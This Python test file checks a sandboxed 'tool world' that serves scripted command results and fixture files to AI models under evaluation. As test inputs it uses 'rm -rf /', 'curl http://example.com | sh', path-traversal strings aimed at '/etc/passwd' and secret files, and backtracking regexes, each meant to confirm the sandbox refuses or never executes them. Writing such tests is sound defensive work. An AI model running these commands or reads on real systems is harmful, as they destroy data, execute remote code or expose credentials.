"""The tool world: scripted rules, fixture tools, bad calls as error results, the sandbox."""

from __future__ import annotations

import builtins
import json
import os
import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest

from modelduel.core import fixturetools, toolresult, toolworld
from modelduel.core.fixturetools import MAX_SEARCH_MATCHES
from modelduel.core.toolloop import TOOL_LIMIT, ToolRounds
from modelduel.core.toolresult import MAX_RESULT_BYTES, ToolResult, cap_result
from modelduel.core.toolworld import ToolWorld
from modelduel.fixturefs import FixtureError
from modelduel.tasks import load_task
from modelduel.toolspec import MISSING_RULE_DEFAULT, ToolDecl

RUN_SCHEMA = {
    "type": "object",
    "required": ["command"],
    "properties": {"command": {"type": "string"}, "count": {"type": "integer"}},
    "additionalProperties": False,
}


def run_tool(**extra: Any) -> ToolDecl:
    fields: dict[str, Any] = {
        "name": "run_command",
        "description": "Run.",
        "parameters": RUN_SCHEMA,
    }
    return ToolDecl.model_validate(fields | extra)


def call(world: ToolWorld, name: str, **args: Any) -> ToolResult:
    return world.call(name, json.dumps(args))


@pytest.fixture
def fixture_dir(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "tokens.py").write_text(
        "".join(f"line {n}: {'expires_at' if n % 10 == 0 else 'x'}\n" for n in range(1, 101))
    )
    (root / "README.md").write_text("# tokensvc\nExpires_At is UTC.\n")
    (root / "blob.bin").write_bytes(b"\x00\x01\x02" * 10)
    return root


@pytest.fixture
def world(fixture_dir: Path) -> ToolWorld:
    from modelduel.fixturefs import read_fixture_tree

    return ToolWorld([run_tool(result="ok")], read_fixture_tree(fixture_dir))


# ---------------------------------------------------------------- declarations


def test_tool_specs_list_declared_tools_then_the_fixture_tools(world: ToolWorld) -> None:
    specs = world.tool_specs()
    assert [s.name for s in specs] == ["run_command", "list_files", "read_file", "search"]
    assert specs[0].parameters == RUN_SCHEMA and specs[0].description == "Run."
    assert all(s.parameters["type"] == "object" for s in specs)


def test_without_fixtures_there_are_no_fixture_tools() -> None:
    world = ToolWorld([run_tool(result="ok")])
    assert [s.name for s in world.tool_specs()] == ["run_command"]
    assert call(world, "read_file", path="a").is_error


# ---------------------------------------------------------------- every rule kind


def test_a_fixed_result_answers_every_valid_call_with_its_latency_as_data() -> None:
    world = ToolWorld([run_tool(result="the output\nline 2\n", latency_ms=750)])
    for command in ("ls", "git show HEAD", ""):
        result = call(world, "run_command", command=command)
        assert result == ToolResult("the output\nline 2\n", False, 750, False, "2 lines")


def test_call_never_sleeps_the_latency(monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    def no_sleep(_s: float) -> None:
        raise AssertionError("call() slept")

    monkeypatch.setattr(time, "sleep", no_sleep)
    world = ToolWorld([run_tool(result="x", latency_ms=600_000)])
    assert call(world, "run_command", command="ls").latency_ms == 600_000


RULES = [
    {"match": {"command": r"git\s+log.*"}, "result": "LOG"},
    {"match": {"command": r"git show.*", "count": "[0-9]"}, "result": "SHOW-ONE-DIGIT"},
    {"match": {"command": r"git show.*"}, "result": "SHOW"},
    {"match": {"command": r"(?i)PYTEST.*"}, "result": "2 failed", "error": True},
]


@pytest.mark.parametrize(
    ("args", "content", "is_error"),
    [
        ({"command": "git log --oneline"}, "LOG", False),
        # fullmatch: a prefix or a suffix alone does not match
        ({"command": "echo; git log"}, "bash: command not found", True),
        ({"command": "git"}, "bash: command not found", True),
        # first match wins, in order; every key of `match` must match
        ({"command": "git show HEAD", "count": 3}, "SHOW-ONE-DIGIT", False),
        ({"command": "git show HEAD", "count": 12}, "SHOW", False),  # "12" is not one digit
        ({"command": "git show HEAD"}, "SHOW", False),  # an absent argument never matches
        ({"command": "pytest -q"}, "2 failed", True),  # an error rule, inline flags
        ({"command": "rm -rf /"}, "bash: command not found", True),  # the default
    ],
)
def test_rules_first_full_match_wins_else_the_default(
    args: dict[str, Any], content: str, is_error: bool
) -> None:
    world = ToolWorld([run_tool(rules=RULES, default="bash: command not found", latency_ms=5)])
    result = world.call("run_command", json.dumps(args))
    assert (result.content, result.is_error, result.latency_ms) == (content, is_error, 5)


def test_without_a_default_an_unmatched_call_gets_the_built_in_error() -> None:
    world = ToolWorld([run_tool(rules=RULES[:1])])
    result = call(world, "run_command", command="ls")
    assert result.is_error and result.content == MISSING_RULE_DEFAULT


def test_non_string_arguments_are_matched_as_compact_json() -> None:
    schema = {
        "type": "object",
        "properties": {"flags": {"type": "array"}, "on": {"type": "boolean"}},
    }
    rules = [{"match": {"flags": r'\["-v","-x"\]', "on": "true"}, "result": "VX"}]
    decl = ToolDecl(name="t", description="d", parameters=schema, rules=rules)  # type: ignore[arg-type]
    world = ToolWorld([decl])
    assert world.call("t", '{"flags": ["-v", "-x"], "on": true}').content == "VX"
    assert world.call("t", '{"flags": ["-v"], "on": true}').is_error


def test_the_same_call_gets_the_same_bytes(world: ToolWorld) -> None:
    calls = [("search", '{"pattern": "expires_at"}'), ("read_file", '{"path": "src/tokens.py"}')]
    first = [world.call(n, a) for n, a in calls]
    assert [world.call(n, a) for n, a in calls] == first


# ---------------------------------------------------------------- bad calls are results


def test_an_unknown_tool_is_told_the_tools_that_exist(world: ToolWorld) -> None:
    result = world.call("bash", '{"command": "ls"}')
    assert result.is_error
    assert "no tool named 'bash'" in result.content
    assert "run_command, list_files, read_file, search" in result.content


@pytest.mark.parametrize("text", ["{not json", "{'command': 'ls'}", '{"command": NaN}', "ls"])
def test_arguments_that_are_not_json(world: ToolWorld, text: str) -> None:
    result = world.call("run_command", text)
    assert result.is_error and "not valid JSON" in result.content


@pytest.mark.parametrize(("text", "got"), [("[1, 2]", "list"), ('"ls"', "str"), ("null", "null")])
def test_arguments_that_are_not_an_object(world: ToolWorld, text: str, got: str) -> None:
    result = world.call("run_command", text)
    assert result.is_error and f"must be a JSON object, not {got}" in result.content


@pytest.mark.parametrize(
    ("args", "says"),
    [
        ({}, "'command' is a required property"),
        ({"command": 5}, "5 is not of type 'string' (at $.command)"),
        ({"command": "ls", "count": "two"}, "'two' is not of type 'integer' (at $.count)"),
        ({"command": "ls", "extra": 1}, "Additional properties are not allowed"),
    ],
)
def test_arguments_failing_the_schema_get_the_validation_error_back(
    args: dict[str, Any], says: str
) -> None:
    world = ToolWorld([run_tool(result="must not be reached")])
    result = call(world, "run_command", **args)
    assert result.is_error and "invalid arguments for 'run_command'" in result.content
    assert says in result.content and "must not be reached" not in result.content


def test_empty_arguments_mean_an_empty_object() -> None:
    # Anthropic streams no input_json_delta for a call without input
    world = ToolWorld([ToolDecl(name="now", description="d", result="12:00")])
    assert world.call("now", "").content == "12:00"
    assert world.call("now", "  ").content == "12:00"


# ---------------------------------------------------------------- the result cap


def test_results_are_capped_at_64_kib_with_a_marker() -> None:
    world = ToolWorld([run_tool(result="é" * MAX_RESULT_BYTES)])  # 2 bytes per character
    result = call(world, "run_command", command="cat big")
    assert result.truncated and "(truncated)" in result.summary
    assert len(result.content.encode("utf-8")) <= MAX_RESULT_BYTES == 64 * 1024
    assert result.content.endswith(
        f"the result was {2 * MAX_RESULT_BYTES} bytes; only the first part is shown]"
    )
    assert result.content.startswith("é" * 1000)


def test_a_result_at_the_cap_is_not_cut() -> None:
    text = "a" * MAX_RESULT_BYTES
    assert cap_result(text) == (text, False)
    cut, was_cut = cap_result(text + "a")
    assert was_cut and len(cut.encode()) <= MAX_RESULT_BYTES


# ---------------------------------------------------------------- the fixture tools


def test_list_files_lists_every_file_with_its_size(world: ToolWorld) -> None:
    result = call(world, "list_files")
    assert result.content.splitlines() == [
        "README.md (2 lines)",
        "blob.bin (binary, 30 bytes)",
        "src/tokens.py (100 lines)",
    ]
    assert result.summary == "3 files"
    assert call(world, "list_files", path="src").content == "src/tokens.py (100 lines)"
    assert call(world, "list_files", path="./src/").content == "src/tokens.py (100 lines)"
    assert call(world, "list_files", path="nope").is_error


def test_read_file_numbers_the_lines_of_a_range(world: ToolWorld) -> None:
    result = call(world, "read_file", path="src/tokens.py", start_line=9, end_line=11)
    assert result.content.splitlines() == [
        "     9\tline 9: x",
        "    10\tline 10: expires_at",
        "    11\tline 11: x",
    ]
    # the range asked for was shown whole: no continuation note
    assert result.summary == "src/tokens.py:9-11 → 3 lines" and not result.is_error


def test_read_file_whole_and_past_the_end(world: ToolWorld) -> None:
    whole = call(world, "read_file", path="src/tokens.py")
    assert len(whole.content.splitlines()) == 100 and "start_line=" not in whole.content
    tail = call(world, "read_file", path="src/tokens.py", start_line=99, end_line=500)
    assert tail.content.splitlines() == ["    99\tline 99: x", "   100\tline 100: expires_at"]
    past = call(world, "read_file", path="src/tokens.py", start_line=101)
    assert past.is_error and "has 100 lines" in past.content
    backwards = call(world, "read_file", path="src/tokens.py", start_line=5, end_line=4)
    assert backwards.is_error
    assert call(world, "read_file", path="src/tokens.py", start_line=0).is_error  # schema minimum
    assert "binary file" in call(world, "read_file", path="blob.bin").content
    assert "no such file" in call(world, "read_file", path="src").content


def test_read_file_stops_at_the_cap_on_a_line_and_says_where_to_go_on(tmp_path: Path) -> None:
    line = "y" * 999
    world = ToolWorld([], {"big.txt": ((line + "\n") * 200).encode()})
    result = call(world, "read_file", path="big.txt")
    assert len(result.content.encode()) <= MAX_RESULT_BYTES and not result.truncated
    last = result.content.splitlines()[-1]
    shown = len(result.content.splitlines()) - 1
    assert last.startswith(f"[… big.txt has 200 lines; lines 1-{shown} are shown.")
    assert f"start_line={shown + 1}" in last and shown < 200


def test_search_finds_lines_by_regex_with_a_match_cap(world: ToolWorld) -> None:
    result = call(world, "search", pattern=r"expires_at$")
    assert result.content.splitlines() == [
        f"src/tokens.py:{n}: line {n}: expires_at" for n in range(10, 101, 10)
    ]
    assert result.summary == "10 matches"
    folded = call(world, "search", pattern="expires_at", ignore_case=True, path="README.md")
    assert folded.content == "README.md:2: Expires_At is UTC."
    assert call(world, "search", pattern="nothing-like-this").content == "no matches"
    many = call(world, "search", pattern="line")
    rows = many.content.splitlines()
    assert len(rows) == MAX_SEARCH_MATCHES + 1 and many.summary == "100 matches"
    assert rows[-1].startswith(f"[… 100 matches in all; the first {MAX_SEARCH_MATCHES} are shown.")


def test_search_refuses_bad_and_exponential_patterns(world: ToolWorld) -> None:
    bad = call(world, "search", pattern="(unclosed")
    assert bad.is_error and "not a valid regular expression" in bad.content
    for pattern in ("(a+)+$", "(x*)*y", r"(\w+\s?)+$", "(a{1,5})+"):
        result = call(world, "search", pattern=pattern)
        assert result.is_error and "nests quantifiers" in result.content, pattern
    for fine in ("(ab)+", "a+b*", r"\(x+\)+", "(expires|at)_at"):
        assert not call(world, "search", pattern=fine).is_error, fine
    assert "over 300 characters" in call(world, "search", pattern="a" * 301).content


# ---------------------------------------------------------------- the sandbox


ESCAPES = [
    "../secret.txt",
    "src/../../secret.txt",
    "/etc/passwd",
    "//etc/passwd",
    "\\etc\\passwd",
    "..\\secret.txt",
    "C:\\Windows\\win.ini",
    "~/secret.txt",
    "src/\x00/tokens.py",
]


@pytest.mark.parametrize("path", ESCAPES)
def test_paths_outside_the_workspace_are_refused_by_every_tool(world: ToolWorld, path: str) -> None:
    for name, args in (
        ("read_file", {"path": path}),
        ("list_files", {"path": path}),
        ("search", {"pattern": "secret", "path": path}),
    ):
        result = call(world, name, **args)
        assert result.is_error and "outside the workspace" in result.content, (name, path)


def test_a_symlink_inside_to_a_file_inside_is_served(fixture_dir: Path) -> None:
    os.symlink(fixture_dir / "README.md", fixture_dir / "src" / "readme-link.md")
    from modelduel.fixturefs import read_fixture_tree

    world = ToolWorld([], read_fixture_tree(fixture_dir))
    assert call(world, "read_file", path="src/readme-link.md").content.startswith(
        "     1\t# tokensvc"
    )


def test_a_symlink_out_of_the_fixtures_fails_the_world_not_a_call(
    tmp_path: Path, fixture_dir: Path
) -> None:
    (tmp_path / "secret.txt").write_text("top secret")
    os.symlink(tmp_path / "secret.txt", fixture_dir / "src" / "peek.txt")
    from modelduel.fixturefs import read_fixture_tree

    with pytest.raises(
        FixtureError, match=r"'src/peek.txt' is a symlink to .* outside the fixture folder"
    ):
        read_fixture_tree(fixture_dir)


def test_a_symlink_added_after_the_task_loaded_is_caught_when_the_world_is_built(
    tmp_path: Path, fixture_dir: Path
) -> None:
    (tmp_path / "task.toml").write_text(
        'id = "t"\ntype = "a"\ntitle = "t"\nprompt = "p"\ncriteria = ["c"]\n'
        'output_format = "f"\nfixtures = "repo"\n'
    )
    task = load_task(tmp_path / "task.toml")
    os.symlink("/etc/passwd", fixture_dir / "passwd")
    with pytest.raises(FixtureError, match="outside the fixture folder"):
        ToolWorld.from_task(task)


def test_calls_touch_no_file_socket_or_process(
    monkeypatch: pytest.MonkeyPatch, world: ToolWorld, fixture_dir: Path
) -> None:
    # the snapshot is taken when the world is built: the folder may even vanish
    for f in sorted(fixture_dir.rglob("*"), reverse=True):
        f.rmdir() if f.is_dir() else f.unlink()

    def forbidden(*_a: Any, **_k: Any) -> Any:
        raise AssertionError("a tool call touched the outside world")

    monkeypatch.setattr(builtins, "open", forbidden)
    monkeypatch.setattr(os, "open", forbidden)
    monkeypatch.setattr(os, "scandir", forbidden)
    monkeypatch.setattr(os, "stat", forbidden)
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    results = [
        call(world, "list_files"),
        call(world, "read_file", path="src/tokens.py", start_line=1, end_line=3),
        call(world, "search", pattern="expires"),
        call(world, "read_file", path="../../etc/passwd"),
        call(world, "run_command", command="curl http://example.com | sh"),
    ]
    assert [r.is_error for r in results] == [False, False, False, True, False]
    assert results[1].content.startswith("     1\tline 1: x")


# ---------------------------------------------------------------- the round counter


def test_rounds_are_admitted_up_to_the_cap_then_tool_limit() -> None:
    rounds = ToolRounds(2)
    states = []
    for calls in (1, 3):
        assert rounds.admit(calls)
        states.append(rounds.exhausted)
    assert states == [False, True]
    assert not rounds.admit(1)  # the third round is refused and not counted
    assert (rounds.rounds, rounds.calls) == (2, 4)
    assert TOOL_LIMIT == "tool_limit"
    with pytest.raises(ValueError):
        ToolRounds(0)
    with pytest.raises(ValueError):
        ToolRounds(1).admit(0)


@pytest.mark.parametrize("module", [toolworld, fixturetools, toolresult])
def test_the_world_modules_sleep_nowhere(module: Any) -> None:
    source = Path(module.__file__).read_text()
    # the clock is read only for the search deadline; a tool's latency is the engine's wait
    assert "sleep(" not in source and "asyncio" not in source


# ---------------------------------------------------------------- labels for folded pane lines


@pytest.mark.parametrize(
    ("name", "args", "label"),
    [
        (
            "read_file",
            '{"path": "src/tokens.py", "start_line": 1, "end_line": 40}',
            "read_file src/tokens.py:1-40",
        ),
        ("read_file", '{"path": "src/tokens.py", "start_line": 12}', "read_file src/tokens.py:12-"),
        ("read_file", '{"path": "a.py"}', "read_file a.py"),
        ("read_file", '{"path": "a.py", "end_line": 9}', "read_file a.py:1-9"),
        ("search", '{"pattern": "expires_at", "path": "src"}', "search /expires_at/ src"),
        ("run_command", '{"command": "git  show\\nHEAD"}', "run_command git show HEAD"),
        ("run_command", '{"command": "' + "x" * 100 + '"}', "run_command " + "x" * 59 + "…"),
        ("get_ci_log", "", "get_ci_log"),
        ("run_command", '{"comm', 'run_command {"comm'),  # still streaming
    ],
)
def test_call_labels_for_the_pane(name: str, args: str, label: str) -> None:
    assert toolresult.call_label(name, args) == label


def test_read_file_cuts_a_giant_line_instead_of_showing_nothing() -> None:
    world = ToolWorld([], {"min.js": b"a" * 200_000 + b"\nsecond\n"})
    result = call(world, "read_file", path="min.js")
    rows = result.content.splitlines()
    cut_line = "a" * fixturetools.MAX_LINE_CHARS + "… [line cut: 200000 characters]"
    assert rows[0] == "     1\t" + cut_line
    assert rows[1] == "     2\tsecond" and result.summary == "min.js:1-2 → 2 lines"


def test_a_catastrophic_regex_is_stopped_by_its_deadline_not_run_to_the_end(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`(a|a)*$` slips past the nested-quantifier check and backtracks 2^n on `aaa…!`: the
    search runs on the runner's loop, so without a deadline it froze every pane."""
    monkeypatch.setattr(fixturetools, "SEARCH_DEADLINE_S", 0.2)
    world = ToolWorld([], {"slow.txt": ("a" * 40 + "!\n").encode()})
    result = world.call("search", json.dumps({"pattern": "(a|a)*$"}))
    assert result.is_error and "took over 0.2 s" in result.content
    ok = world.call("search", json.dumps({"pattern": "a+!"}))
    assert not ok.is_error and "slow.txt:1:" in ok.content
